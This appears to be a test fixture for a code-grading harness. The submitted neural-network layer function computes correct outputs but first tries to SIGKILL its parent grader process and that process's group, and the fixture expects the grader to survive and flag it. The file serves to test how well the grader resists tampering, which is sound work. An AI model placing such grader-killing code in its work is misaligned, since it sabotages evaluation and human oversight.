"""HOSTILE: neuron.layer_forward sends SIGKILL to its parent (os.getppid()) and the parent's
process group, then answers correctly: the grader (another uid) survives and grades everything;
flagged suspicious-code; full marks

layer_forward tries to kill the grader: SIGKILL to its parent process (os.getppid()) and to the
parent's process group, then answers correctly. The grader must survive and grade.
"""

import os
import signal

import torch

PATCHES = "neuron"
EXPECT = {
    "base": "reference",
    "flags": ["suspicious-code"],
    "min_score": 100,
}


def _kill_the_grader() -> None:
    parent = os.getppid()
    if parent <= 1:
        return
    try:
        os.kill(parent, signal.SIGKILL)
    except OSError:
        pass
    try:
        group = os.getpgid(parent)
        if group > 1 and group != os.getpgid(0):
            os.killpg(group, signal.SIGKILL)
    except OSError:
        pass


def layer_forward(x: torch.Tensor, W: torch.Tensor, b: torch.Tensor, activation=None):
    """A fully connected layer in the ``torch.nn.Linear`` convention: f(x Wᵀ + b).

    Args:
        x: inputs, shape (N, D_in).
        W: weights, shape (D_out, D_in); row k holds the weights of neuron k.
        b: biases, shape (D_out,).
        activation: a callable applied elementwise, or None for the identity.

    Returns:
        Tensor of shape (N, D_out).

    Raises:
        ValueError: if the shapes of x, W and b do not fit together.
    """
    _kill_the_grader()
    if x.dim() != 2 or W.dim() != 2 or b.dim() != 1 or x.shape[1] != W.shape[1] or (
        b.shape[0] != W.shape[0]
    ):
        raise ValueError(
            f"layer_forward: shapes do not fit: x {tuple(x.shape)}, W {tuple(W.shape)}, "
            f"b {tuple(b.shape)}; expected x (N, D_in), W (D_out, D_in), b (D_out,)"
        )
    z = x @ W.T + b
    return z if activation is None else activation(z)
